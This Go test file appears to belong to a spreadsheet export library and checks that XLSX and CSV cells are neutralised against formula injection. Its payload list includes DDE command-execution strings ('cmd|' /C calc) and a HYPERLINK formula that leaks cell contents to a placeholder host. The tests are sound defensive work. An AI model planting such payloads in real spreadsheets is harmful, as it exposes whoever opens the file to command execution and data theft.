package sheet

import (
	"bytes"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// payloads are texts that have done harm in spreadsheets, or are hard to keep.
var payloads = []string{
	`=1+1`, `=cmd|'/C calc'!A0`, `=HYPERLINK("http://x/?"&A1,"点")`, `+1+1`, `-1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1)`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`,
	"\t=1", "\r=1", "\n=1", ` =1`, "\u3000=1", "\ufeff=1", "\u200b=1", `'=1`, `''=1`, `'abc`, `"=1"`, `=`, `-`,
	`a,"b";c`, "两\n行", `_x000D_ _x_ _x0041_`, `<b>&amp;</b>]]>`, `0012`, `1E5`, "\x01\x1f\u007f", `𠮷堃喆玥`, "a\r\nb", `sep=,`,
}

// written writes one sheet of texts.
func written(t testing.TB, w Writer, rows ...[]Cell) {
	t.Helper()
	err := w.Begin(Look{Name: "表", Widths: []int{20}})
	for _, r := range rows {
		if err == nil {
			err = w.Write(r)
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
}

// writers are the two kinds of files.
var writers = map[string]func(io.Writer) Writer{"xlsx": NewXLSX, "csv": NewCSV}

func TestPayloadsAreTextsInEveryProgram(t *testing.T) {
	t.Parallel()
	for kind, writer := range writers {
		var b bytes.Buffer
		written(t, writer(&b), Texts("x", "头"), Texts(payloads...), Texts("y"))
		r, err := Open(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(kind, err)
		}
		if _, err := r.Next(); err != nil {
			t.Fatal(kind, err)
		}
		row, err := r.Next()
		if err != nil {
			t.Fatal(kind, err)
		}
		for i, want := range payloads {
			if kind == "csv" && strings.ContainsAny(want, "\x00") {
				continue
			}
			if got := Bare(row.Cell(i).Text); got != want && got != trim(want) {
				t.Errorf("%s: %q was read back as %q", kind, want, got)
			}
		}
	}
}

// TestSecondOpinion reads what we write by another reader, and has it say what
// is a formula.
func TestSecondOpinion(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := NewXLSX(&b)
	if err := w.Begin(Look{Name: "小区[1]", Head: 1, Widths: []int{30, 0, 8}, Choices: map[int][]string{2: {"是", "否"}}}); err != nil {
		t.Fatal(err)
	}
	rows := [][]Cell{Texts("名称", "房号", "电梯"), {{Text: "阳光花园", Kind: Text}, {Text: "0502", Kind: Text}, {Text: "89.5", Kind: Number}, {Text: "1e5;", Kind: Number}}}
	for _, p := range payloads {
		rows = append(rows, Texts(p, "", p))
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Begin(Look{Name: `a&"b"`}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if names := f.GetSheetList(); !slices.Equal(names, []string{"小区1", `a&"b"`}) {
		t.Errorf("sheets %q", names)
	}
	for i, row := range rows {
		for j, want := range row {
			cell := fmt.Sprintf("%s%d", Letters(j), i+1)
			formula, err := f.GetCellFormula("小区1", cell)
			if err != nil || formula != "" {
				t.Errorf("%s is the formula %q, %v", cell, formula, err)
			}
			got, err := f.GetCellValue("小区1", cell)
			if err != nil || got != Neutral(want.Text) && got != strings.ReplaceAll(Neutral(want.Text), "\u007f", "") {
				t.Errorf("%s shows %q, want %q, %v", cell, got, Neutral(want.Text), err)
			}
			if len(got) > 0 && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(got)[0]) {
				t.Errorf("%s begins like a formula: %q", cell, got)
			}
		}
	}
	choices, err := f.GetDataValidations("小区1")
	if err != nil || len(choices) != 1 || choices[0].Sqref != "C2:C1048576" || choices[0].Formula1 != `"是,否"` {
		t.Errorf("choices %+v, %v", choices, err)
	}
}

// TestAnothersWorkbook reads what another writer wrote.
func TestAnothersWorkbook(t *testing.T) {
	t.Parallel()
	f := excelize.NewFile()
	date, err := f.NewStyle(&excelize.Style{NumFmt: 31})
	zeros, err2 := f.NewStyle(&excelize.Style{CustomNumFmt: new("0000")})
	if err != nil || err2 != nil {
		t.Fatal(err, err2)
	}
	for _, c := range []struct {
		at    string
		value any
	}{{"A1", "楼栋"}, {"B1", "房号"}, {"C1", "日期"}, {"A2", "3号楼"}, {"B2", 502}, {"C2", 43242}, {"B3", "0503"}, {"C3", "2018年5月22日"}} {
		if err := f.SetCellValue("Sheet1", c.at, c.value); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	for _, err := range []error{f.MergeCell("Sheet1", "A2", "A3"), f.SetCellStyle("Sheet1", "C2", "C2", date), f.SetCellStyle("Sheet1", "B2", "B2", zeros), f.Write(&b)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	r, err := Open(bytes.NewReader(b.Bytes()))
	got, err := all(t, r, err)
	want := []string{"Sheet11: A=楼栋 B=房号 C=日期", "Sheet12: A=3号楼 B=0502/number C=2018-05-22/date", "Sheet13: A=3号楼 B=0503 C=2018年5月22日"}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("%v\n got %q\nwant %q", err, got, want)
	}
}

func TestWrittenIsRead(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringOf(rapid.OneOf(rapid.RuneFrom([]rune("=+-@'\"_x0D,;\n\r\t <&>＝甲乙𠮷")), rapid.Rune().Filter(func(r rune) bool { return r != 0 && r != 0xFFFD })))
		rows := rapid.SliceOfN(rapid.SliceOfN(cell, 1, 5), 1, 8).Draw(t, "rows")
		for kind, writer := range writers {
			var b bytes.Buffer
			w := writer(&b)
			if err := w.Begin(Look{}); err != nil {
				t.Fatal(err)
			}
			want := map[int][]string{}
			for i, row := range rows {
				row = slices.Clone(row)
				if i == 0 {
					row[0] = "a,b,c,d" // which separator it is must be plain from the first line
				}
				if err := w.Write(Texts(row...)); err != nil {
					t.Fatal(err)
				}
				if strings.Join(row, "") != "" {
					want[i+1] = row
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			r, err := Open(bytes.NewReader(b.Bytes()))
			if err != nil {
				t.Fatal(kind, err)
			}
			for {
				row, err := r.Next()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Fatal(kind, err)
				}
				for i, c := range row.Cells {
					wrote := ""
					if i < len(want[row.Number]) {
						wrote = want[row.Number][i]
					}
					if got := Bare(c.Text); got != wrote && got != trim(wrote) && Neutral(got) != trim(Neutral(wrote)) {
						t.Fatalf("%s row %d: wrote %q, read %q", kind, row.Number, wrote, got)
					}
				}
				delete(want, row.Number)
			}
			for n, row := range want {
				if trim(strings.Join(row, "")) != "" {
					t.Fatalf("%s: row %d %q was not read", kind, n, row)
				}
			}
		}
	})
}

// TestFullSheet: what is too much for a sheet goes on in the next.
func TestFullSheet(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := newXLSX(&b, 3)
	err := w.Begin(Look{Name: "房屋", Head: 1})
	for _, s := range []string{"房号", "101", "102", "103", "104", "105"} {
		if err == nil {
			err = w.Write(Texts(s))
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	r, err := Open(bytes.NewReader(b.Bytes()))
	got, err := all(t, r, err)
	want := []string{"房屋1: A=房号", "房屋2: A=101", "房屋3: A=102", "房屋 21: A=房号", "房屋 22: A=103", "房屋 23: A=104", "房屋 31: A=房号", "房屋 32: A=105"}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("%v\n got %q\nwant %q", err, got, want)
	}
}
